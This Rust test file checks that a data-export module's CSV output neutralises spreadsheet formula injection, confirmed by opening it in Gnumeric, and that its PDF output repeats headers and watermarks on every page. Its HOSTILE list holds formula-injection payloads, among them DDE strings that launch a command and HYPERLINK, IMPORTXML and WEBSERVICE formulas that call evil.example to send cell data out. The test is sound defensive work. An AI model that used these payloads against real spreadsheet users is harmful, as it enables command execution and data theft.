//! Tables and documents as programs of others open them.

use std::path::{Path, PathBuf};
use std::process::Command;

use sealpost_store::testing::TestStore;
use serde_json::{Map, Value, json};

use super::memory::MadeUp;
use super::{Scene, refused_with};
use crate::downloads::codes::DOWNLOAD_TOO_LONG;
use crate::downloads::lines::Lines;
use crate::downloads::model::Format;
use crate::downloads::rules::ROWS_OF_A_DOCUMENT;
use crate::downloads::source::Exportables;

/// What people have called themselves to have a spreadsheet do something.
const HOSTILE: [&str; 26] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(A1)",
    "\"=1+1\"",
    "x\",=1+1,\"y",
    "x\r\n=1+1,=2+2",
    "x;=1+1",
    "x\t=1+1",
];

fn folder(name: &str) -> PathBuf {
    let folder = std::env::temp_dir().join(format!("sealpost-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    folder
}

/// What another program says; nothing, loudly, where it isn't installed.
fn says(program: &str, arguments: &[&str]) -> Option<String> {
    match Command::new(program).args(arguments).output() {
        Ok(output) => {
            let text = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
            assert!(output.status.success(), "{program}: {text}");
            Some(text)
        }
        Err(_) => {
            #[expect(clippy::disallowed_methods, reason = "where this runs is the tests' own configuration")]
            let in_ci = std::env::var("CI").is_ok();
            assert!(!in_ci, "{program} is not installed: nobody else looks at the file");
            #[expect(clippy::print_stderr, reason = "a check that can't run says so loudly")]
            {
                eprintln!("SKIPPED, LOUDLY: {program} is not installed, so nobody else has looked at the file");
            }
            None
        }
    }
}

/// A cell as a spreadsheet program has it: what kind, and what stands there.
struct Opened {
    is_formula: bool,
    row: usize,
    says: String,
}

/// The cells that Gnumeric makes of a table.
fn opened(folder: &Path, table: &[u8]) -> Option<Vec<Opened>> {
    let (from, to) = (folder.join("table.csv"), folder.join("table.xml"));
    std::fs::write(&from, table).unwrap();
    let (from, at) = (from.to_str().unwrap(), to.to_str().unwrap());
    says("ssconvert", &["--export-type=Gnumeric_XmlIO:sax:0", from, at])?;
    let xml = std::fs::read_to_string(&to).unwrap();
    let cell = |part: &str| {
        let (attributes, rest) = part.split_once('>')?;
        let (text, _) = rest.split_once("</gnm:Cell>")?;
        let row = attributes.split_once("Row=\"")?.1.split_once('"')?.0.parse().ok()?;
        // A cell that holds an expression has no type of its own.
        Some(Opened { is_formula: !attributes.contains("ValueType"), row, says: text.to_owned() })
    };
    Some(xml.split("<gnm:Cell ").skip(1).filter_map(cell).collect())
}

fn row(name: &str) -> Map<String, Value> {
    json!({ "id": "con_1", "name": name }).as_object().unwrap().clone()
}

fn written(format: Format, title: &str, rows: impl Iterator<Item = Map<String, Value>>) -> Vec<u8> {
    let columns = ["id", "name"].map(str::to_owned);
    let mut lines = Lines::new(format, title, &columns, "dow_x mem_y 2026-11-30T10:00:00Z".into()).unwrap();
    rows.for_each(|row| lines.write(row));
    lines.finish().unwrap();
    lines.take()
}

#[test]
fn a_spreadsheet_program_opens_a_table_and_finds_no_formula_in_it() {
    let folder = folder("spreadsheet");
    // As they would be if nothing were done about them: this has to be noticed.
    let quoted = HOSTILE.map(|name| format!("con_1,\"{}\",dow_x\r\n", name.replace('"', "\"\"")));
    let Some(bare) = opened(&folder, format!("id,name,watermark\r\n{}", quoted.concat()).as_bytes()) else { return };
    let caught = bare.iter().filter(|cell| cell.is_formula).count();
    assert!(caught >= 3, "of formulas nobody did anything about {caught} are seen");

    let cells = opened(&folder, &written(Format::Csv, "Contacts", HOSTILE.into_iter().map(row))).unwrap();
    let formulas: Vec<_> = cells.iter().filter(|cell| cell.is_formula).map(|cell| &cell.says).collect();
    assert!(formulas.is_empty(), "{formulas:?}");
    assert_eq!(cells.iter().map(|cell| cell.row).max(), Some(HOSTILE.len()), "none breaks out of its row");
    assert_eq!(cells.len(), 3 * (HOSTILE.len() + 1), "nor of its column");
    std::fs::remove_dir_all(folder).unwrap();
}

const NAMES: [&str; 5] = ["Žluťoučký kůň", "Καλημέρα κόσμε", "Съешь же ещё", "שלום עולם", "مرحبا بالعالم"];

#[test]
fn every_page_of_a_document_repeats_the_head_and_says_who_took_it() {
    let name = |at: usize| format!("{} {at}", NAMES[at % NAMES.len()]);
    let file = written(Format::Pdf, "Contacts", (0..400).map(|at| row(&name(at))));
    assert!(file.starts_with(b"%PDF-1.7") && file.ends_with(b"%%EOF\n"));
    let folder = folder("document");
    let path = folder.join("rows.pdf");
    std::fs::write(&path, &file).unwrap();
    let path = path.to_str().unwrap();
    if let Some(text) = says("qpdf", &["--check", path]) {
        assert!(!text.contains("WARNING"), "{text}");
    }
    let Some(text) = says("pdftotext", &["-raw", path, "-"]) else { return };
    let pages: Vec<String> = text.split('\u{c}').map(|page| page.split_whitespace().collect()).collect();
    let pages: Vec<_> = pages.into_iter().filter(|page: &String| !page.is_empty()).collect();
    assert!(pages.len() > 3, "{} pages", pages.len());
    for (at, page) in pages.iter().enumerate() {
        let mark = "dow_xmem_y2026-11-30T10:00:00Z";
        assert!(page.ends_with(&format!("{mark}{}", at + 1)), "page {} has no foot: {page}", at + 1);
        assert_eq!(page.matches(mark).count(), 4, "three under its text and one at its foot: {page}");
        assert!(page.contains("idnamecon_1"), "page {} has no head: {page}", at + 1);
    }
    for word in NAMES.iter().flat_map(|name| name.split(' ')) {
        assert!(text.contains(word), "{word}");
    }
    assert_eq!(text.matches("con_1").count(), 400);
    std::fs::remove_dir_all(folder).unwrap();
}

#[test]
fn a_row_longer_than_a_page_goes_on_on_the_next() {
    let file = written(Format::Pdf, "Contacts", [row(&"word ".repeat(20_000)), row("after it")].into_iter());
    let folder = folder("long");
    let path = folder.join("rows.pdf");
    std::fs::write(&path, &file).unwrap();
    let Some(text) = says("pdftotext", &["-layout", path.to_str().unwrap(), "-"]) else { return };
    assert_eq!(text.matches("word").count(), 20_000);
    assert!(text.contains("after it"));
    std::fs::remove_dir_all(folder).unwrap();
}

#[test]
fn a_document_of_nothing_is_one() {
    let file = written(Format::Pdf, "Contacts", std::iter::empty());
    assert!(file.ends_with(b"%%EOF\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_gets_a_document_that_nobody_can_read() {
    let mut scene = Scene::new(TestStore::sqlite().await).await;
    let sources = Exportables::new(vec![std::sync::Arc::new(MadeUp(ROWS_OF_A_DOCUMENT + 1))]).unwrap();
    scene.downloads = crate::downloads::Downloads::new(scene.store().clone(), sources);
    assert!(refused_with(scene.ask_of("made_up", Format::Pdf).await, &DOWNLOAD_TOO_LONG));
    assert!(scene.ask_of("made_up", Format::Csv).await.is_ok());
}
